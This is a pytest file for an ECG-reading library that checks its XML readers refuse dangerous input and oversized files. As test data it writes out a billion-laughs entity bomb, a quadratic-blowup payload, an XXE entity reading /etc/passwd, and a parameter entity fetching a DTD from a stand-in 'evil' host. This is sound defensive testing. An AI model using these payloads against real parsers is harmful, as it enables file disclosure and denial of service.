"""Malicious XML is refused quickly and without memory blow-up; oversized XML is refused before parsing."""
from __future__ import annotations

import time
import tracemalloc

import pytest

import ecgfm
from ecgfm.errors import ECGReadError
from ecgfm.io import available_readers
from ecgfm.io.xmlsafe import MAX_XML_BYTES

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE RestingECG [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<RestingECG><PatientDemographics><PatientID>&lol9;</PatientID></PatientDemographics></RestingECG>
"""

QUADRATIC_BLOWUP = ('<?xml version="1.0"?>\n<!DOCTYPE RestingECG [<!ENTITY a "' + "x" * 50_000 + '">]>\n'
                    "<RestingECG><PatientID>" + "&a;" * 20_000 + "</PatientID></RestingECG>\n")

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE AnnotatedECG [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<AnnotatedECG xmlns="urn:hl7-org:v3"><id root="&secret;"/></AnnotatedECG>
"""

EXTERNAL_PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE restingecgdata [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<restingecgdata xmlns="http://www3.medical.philips.com"/>
"""


@pytest.mark.parametrize("name,payload", [("laughs.xml", BILLION_LAUGHS), ("blowup.xml", QUADRATIC_BLOWUP),
                                          ("xxe.xml", EXTERNAL_ENTITY), ("param.xml", EXTERNAL_PARAMETER_ENTITY)])
def test_malicious_xml_refused_fast_and_small(tmp_path, name, payload):
    path = tmp_path / name
    path.write_text(payload)
    available_readers()  # import the reader modules before timing
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(ECGReadError, match="refused unsafe XML") as info:
            ecgfm.read(path)
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert str(path) in str(info.value)
    assert elapsed < 1.0 and peak < 20 * 2**20  # expanded, the laughs would be ~3 GB


def test_plain_doctype_is_allowed(tmp_path, synthetic_ecg):
    """Every real MUSE export declares an external DTD by name; that alone must not be refused (nor fetched)."""
    from ecgfm.io.writers import write

    path = write(synthetic_ecg(seconds=2.0, noise_mv=0.0), tmp_path / "m.xml", format="muse")
    assert '<!DOCTYPE RestingECG SYSTEM "restecg.dtd">' in path.read_text(encoding="latin-1")
    assert ecgfm.read(path).meta["format"] == "muse"


def test_oversized_xml_refused_before_parsing(tmp_path):
    path = tmp_path / "huge.xml"
    with open(path, "wb") as fh:  # sparse: no 64 MB actually written
        fh.write(b'<?xml version="1.0"?>\n<RestingECG>')
        fh.truncate(MAX_XML_BYTES + 1)
    started = time.perf_counter()
    with pytest.raises(ECGReadError, match=f"over the {MAX_XML_BYTES // 2**20} MiB limit"):
        ecgfm.read(path)
    assert time.perf_counter() - started < 1.0


def test_malformed_xml_names_file(tmp_path):
    path = tmp_path / "broken.xml"
    path.write_text("<RestingECG><Waveform></RestingECG>")
    with pytest.raises(ECGReadError, match=r"broken\.xml: malformed XML"):
        ecgfm.read(path)


def test_unknown_xml_dialect(tmp_path):
    path = tmp_path / "other.xml"
    path.write_text("<?xml version='1.0'?><SomethingElse/>")
    with pytest.raises(ECGReadError, match="matches none of the readers"):
        ecgfm.read(path)
